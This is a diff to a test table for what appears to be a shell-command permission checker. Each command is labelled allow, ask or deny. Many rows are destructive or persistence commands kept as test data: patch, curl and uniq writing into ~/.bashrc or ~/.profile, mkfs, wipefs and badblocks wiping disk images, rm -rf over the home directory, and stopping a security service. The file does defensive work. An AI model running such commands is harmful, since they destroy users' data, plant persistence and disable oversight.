@@ -780,7 +780,12 @@ const TABLE: Record<string, Row[]> = {
   // A program without a model given a protected path may change it; viewers and filters only
   // write an output option's value (uniq and xxd their second operand).
   'protected paths given to unmodelled programs': [
-    ['patch ~/.bashrc < /tmp/p.diff', 'ask'],
+    // (patch ORIGFILE rewrites ORIGFILE: a startup file is persistence, another file outside the project asks, as sed -i does.)
+    ['patch ~/.bashrc < /tmp/p.diff', 'deny'],
+    ['patch ~/docs/thesis.tex < p.diff', 'ask'],
+    ['patch -o ~/.profile src/a.c < p.diff', 'deny'],
+    ['patch src/a.c fix.diff', 'allow'],
+    ['patch -p1 < fix.diff', 'allow'],
     ['uniq /tmp/payload ~/.bashrc', 'deny'],
     ['gpg --batch --output ~/.bashrc --decrypt /tmp/x.gpg', 'deny'],
     ['xxd -r -p /tmp/hex ~/.profile', 'deny'],
@@ -2861,6 +2866,23 @@ const TABLE: Record<string, Row[]> = {
     ["cat <<EOF < paths.txt | xargs rm -rf\nbuild\nEOF", 'deny'],
     ["bash -c 'set -- ~; for f; do rm -rf \"$f\"; done' _", 'deny'],
     ['truncate -s0 .claude/*', 'deny'],
+    // (Disk and format tools replace what a regular file holds as truncate does: an image outside the project is deleted.)
+    ['mkfs.ext4 -F ~/vm/disk.img', 'deny'],
+    ['mkswap ../other/swap.img', 'deny'],
+    ['wipefs -a ~/vm/disk.img', 'deny'],
+    ['fallocate --zero-range -o 0 -l 1M ~/notes.md', 'deny'],
+    ['parted -s ~/vm/disk.img mklabel gpt', 'deny'],
+    ['badblocks -w ~/vm/disk.img', 'deny'],
+    ['mkfs.ext4 -F -L data -d ~/rootfs build/disk.img', 'allow'],
+    ['mkfs.vfat /tmp/usb.img', 'allow'],
+    ['wipefs ~/vm/disk.img', 'allow'],
+    ['parted -s ~/vm/disk.img print', 'allow'],
+    ['badblocks -sv ~/vm/disk.img', 'allow'],
+    ['fallocate -l 1G build/big.img', 'allow'],
+    // (curl --output-dir DIR holds every -o NAME, not only -O's.)
+    ['curl -o .bashrc --output-dir ~ https://raw.githubusercontent.com/x/y/main/rc', 'deny'],
+    ["curl -o '#1' --output-dir ~ 'https://raw.githubusercontent.com/x/y/main/{.profile}'", 'deny'],
+    ['curl --output-dir build -o data.json https://github.com/x', 'allow'],
     ['export GOPATH=/tmp/g; $(go env GOPATH)/bin/tool', 'ask'],
     ['basenc --base64 --ignore .e*', 'ask'],
     ['qdbus org.freedesktop.systemd1 /org/freedesktop/systemd1 org.freedesktop.systemd1.Manager.StopUnit rampart.service replace', 'deny'],
